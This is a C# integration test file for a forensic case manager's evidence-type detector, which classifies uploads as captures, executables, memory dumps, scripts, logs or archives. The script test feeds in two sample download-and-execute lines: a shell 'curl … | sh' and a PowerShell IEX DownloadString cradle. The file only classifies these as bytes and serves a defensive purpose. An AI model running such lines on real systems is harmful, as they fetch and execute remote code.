using System.IO.Compression;
using System.Text;
using CaseManager.Domain.Evidence;
using CaseManager.Infrastructure.Evidence;

namespace CaseManager.Infrastructure.IntegrationTests.Evidence;

public sealed class EvidenceKindDetectorTests
{
    [Theory]
    [InlineData("zeek_icmp-5-pings.pcap", EvidenceKind.Pcap)]
    [InlineData("esnet_nmap_80_w_service_detection.pcap", EvidenceKind.Pcap)]
    [InlineData("zeek_pcapng-multi-interface.pcapng", EvidenceKind.Pcapng)]
    public void Real_captures_are_told_by_their_magic(string file, EvidenceKind expected)
    {
        var path = Path.Combine(SharedTestData(), "pcaps", file);
        Detect(File.ReadAllBytes(path), "upload.bin").ShouldBe(expected);
    }

    [Fact]
    public void Every_shared_capture_is_a_capture()
    {
        var captures = Directory.GetFiles(Path.Combine(SharedTestData(), "pcaps"))
            .Where(f => f.EndsWith(".pcap", StringComparison.Ordinal) || f.EndsWith(".pcapng", StringComparison.Ordinal) || f.EndsWith(".cap", StringComparison.Ordinal))
            .ToArray();
        captures.ShouldNotBeEmpty();
        foreach (var capture in captures)
        {
            Detect(File.ReadAllBytes(capture), Path.GetFileName(capture)).ShouldBeOneOf(EvidenceKind.Pcap, EvidenceKind.Pcapng);
        }
    }

    [Fact]
    public void Byte_swapped_and_nanosecond_pcaps_are_pcaps()
    {
        Detect([0xD4, 0xC3, 0xB2, 0xA1, 2, 0, 4, 0], "x").ShouldBe(EvidenceKind.Pcap);
        Detect([0xA1, 0xB2, 0x3C, 0x4D, 0, 2, 0, 4], "x").ShouldBe(EvidenceKind.Pcap);
        Detect([0x4D, 0x3C, 0xB2, 0xA1, 2, 0, 4, 0], "x").ShouldBe(EvidenceKind.Pcap);
    }

    [Fact]
    public void System_binary_is_an_elf_executable()
    {
        var ls = File.Exists("/bin/ls") ? "/bin/ls" : "/usr/bin/ls";
        var kind = Detect(File.ReadAllBytes(ls), "ls");
        kind.ShouldBe(EvidenceKind.ElfExecutable);
        EvidenceKindDetector.IsExecutableOrScript(kind).ShouldBeTrue();
    }

    [Fact]
    public void Elf_core_file_is_a_memory_core_not_an_executable()
    {
        var head = new byte[64];
        head[0] = 0x7F; head[1] = (byte)'E'; head[2] = (byte)'L'; head[3] = (byte)'F'; head[4] = 2; head[5] = 1;
        head[16] = 4; head[17] = 0; // e_type = ET_CORE, little-endian
        Detect(head, "core.1234").ShouldBe(EvidenceKind.ElfCore);
        EvidenceKindDetector.IsExecutableOrScript(EvidenceKind.ElfCore).ShouldBeFalse();

        head[5] = 2; head[16] = 0; head[17] = 4; // big-endian core
        Detect(head, "core").ShouldBe(EvidenceKind.ElfCore);
        head[17] = 3; // big-endian shared object
        Detect(head, "libx.so").ShouldBe(EvidenceKind.ElfExecutable);
    }

    [Fact]
    public void Managed_assembly_is_a_pe_executable()
    {
        var kind = Detect(File.ReadAllBytes(typeof(object).Assembly.Location), "invoice.pdf");
        kind.ShouldBe(EvidenceKind.PeExecutable);
        EvidenceKindDetector.IsExecutableOrScript(kind).ShouldBeTrue();
    }

    [Fact]
    public void Minidump_is_told_by_mdmp_even_with_a_dmp_name()
    {
        var head = new byte[64];
        "MDMP"u8.CopyTo(head);
        head[4] = 0x93; head[5] = 0xA7;
        Detect(head, "lsass.dmp").ShouldBe(EvidenceKind.Minidump);
    }

    [Theory]
    [InlineData("host.dmp")]
    [InlineData("HOST.MEM")]
    [InlineData("physmem.raw")]
    [InlineData("memory.dump")]
    public void Random_bytes_named_like_a_memory_image_are_raw_memory(string name)
    {
        Detect(FileSystemEvidenceStoreTests.RandomBytes(8192, seed: 31), name).ShouldBe(EvidenceKind.RawMemory);
    }

    [Fact]
    public void Random_bytes_with_another_name_are_other()
    {
        var kind = Detect(FileSystemEvidenceStoreTests.RandomBytes(8192, seed: 32), "blob.bin");
        kind.ShouldBe(EvidenceKind.Other);
        EvidenceKindDetector.IsExecutableOrScript(kind).ShouldBeFalse();
    }

    [Fact]
    public void Shebang_and_script_extensions_are_scripts()
    {
        Detect("#!/bin/sh\ncurl http://203.0.113.9/x | sh\n"u8, "update").ShouldBe(EvidenceKind.Script);
        Detect("#!/usr/bin/env python3\nimport os\n"u8, "notes.txt").ShouldBe(EvidenceKind.Script);
        Detect("IEX (New-Object Net.WebClient).DownloadString('http://x')\r\n"u8, "run.PS1").ShouldBe(EvidenceKind.Script);
        EvidenceKindDetector.IsExecutableOrScript(EvidenceKind.Script).ShouldBeTrue();
    }

    [Fact]
    public void Text_logs_including_utf8_are_log_text()
    {
        var log = "Nov 28 23:59:01 web01 sshd[811]: Failed password for root from 198.51.100.7 port 52211 ssh2\n" +
                  "Nov 28 23:59:02 web01 sshd[811]: 用户 登录失败 — 再试一次\n";
        var bytes = Encoding.UTF8.GetBytes(string.Concat(Enumerable.Repeat(log, 40)));
        Detect(bytes, "auth.log").ShouldBe(EvidenceKind.LogText);
        Detect(bytes.AsSpan(0, 4096 + 1).ToArray(), "auth.log").ShouldBe(EvidenceKind.LogText);
        EvidenceKindDetector.IsExecutableOrScript(EvidenceKind.LogText).ShouldBeFalse();
    }

    [Fact]
    public void Utf16_text_with_a_byte_order_mark_is_text()
    {
        var transcript = "**********************\r\nWindows PowerShell transcript start\r\nUsername: CORP\\admin\r\n";
        var little = Encoding.Unicode.GetPreamble().Concat(Encoding.Unicode.GetBytes(transcript)).ToArray();
        var big = Encoding.BigEndianUnicode.GetPreamble().Concat(Encoding.BigEndianUnicode.GetBytes(transcript)).ToArray();

        Detect(little, "PowerShell_transcript.txt").ShouldBe(EvidenceKind.LogText);
        Detect(big, "export.log").ShouldBe(EvidenceKind.LogText);
        Detect(little, "stage2.ps1").ShouldBe(EvidenceKind.Script);
        Detect([0xFF, 0xFE, 1, 0, 2, 0, 3, 0, 4, 0], "binary.bin").ShouldBe(EvidenceKind.Other);
    }

    [Fact]
    public void Zip_made_here_is_an_archive_and_a_triage_bundle_by_name()
    {
        using var buffer = new MemoryStream();
        using (var zip = new ZipArchive(buffer, ZipArchiveMode.Create, leaveOpen: true))
        {
            using var entry = zip.CreateEntry("C/Windows/System32/winevt/Logs/Security.evtx").Open();
            entry.Write("ElfFile\0"u8);
        }

        var bytes = buffer.ToArray();
        Detect(bytes, "logs.zip").ShouldBe(EvidenceKind.Archive);
        Detect(bytes, "WS01_Triage_2026-11-28.zip").ShouldBe(EvidenceKind.TriageBundle);
    }

    [Fact]
    public void Other_archive_formats_are_archives()
    {
        using (var gz = new MemoryStream())
        {
            using (var z = new GZipStream(gz, CompressionLevel.Fastest, leaveOpen: true))
            {
                z.Write("hello"u8);
            }

            Detect(gz.ToArray(), "x.gz").ShouldBe(EvidenceKind.Archive);
            Detect(gz.ToArray(), "uac-triage-host.tar.gz").ShouldBe(EvidenceKind.TriageBundle);
        }

        var tar = new byte[1024];
        "etc/passwd"u8.CopyTo(tar);
        "ustar\0"u8.CopyTo(tar.AsSpan(257));
        Detect(tar, "collection.tar").ShouldBe(EvidenceKind.Archive);
        Detect([(byte)'7', (byte)'z', 0xBC, 0xAF, 0x27, 0x1C, 0, 4], "a.7z").ShouldBe(EvidenceKind.Archive);
        Detect([0xFD, (byte)'7', (byte)'z', (byte)'X', (byte)'Z', 0x00, 0, 4], "a.xz").ShouldBe(EvidenceKind.Archive);
        Detect("BZh91AY&SY"u8, "a.bz2").ShouldBe(EvidenceKind.Archive);
    }

    [Fact]
    public void Empty_head_is_other_or_raw_memory_by_name()
    {
        Detect([], "empty.bin").ShouldBe(EvidenceKind.Other);
        Detect([], "empty.mem").ShouldBe(EvidenceKind.RawMemory);
    }

    private static EvidenceKind Detect(ReadOnlySpan<byte> content, string name) =>
        EvidenceKindDetector.Detect(content.Length > EvidenceKindDetector.HeadLength ? content[..EvidenceKindDetector.HeadLength] : content, name);

    private static string SharedTestData()
    {
        var directory = new DirectoryInfo(AppContext.BaseDirectory);
        while (directory is not null && !File.Exists(Path.Combine(directory.FullName, "CaseManager.sln")))
        {
            directory = directory.Parent;
        }

        if (directory is null)
        {
            throw new InvalidOperationException("CaseManager.sln not found above " + AppContext.BaseDirectory);
        }

        return Path.GetFullPath(Path.Combine(directory.FullName, "..", "shared", "testdata"));
    }
}
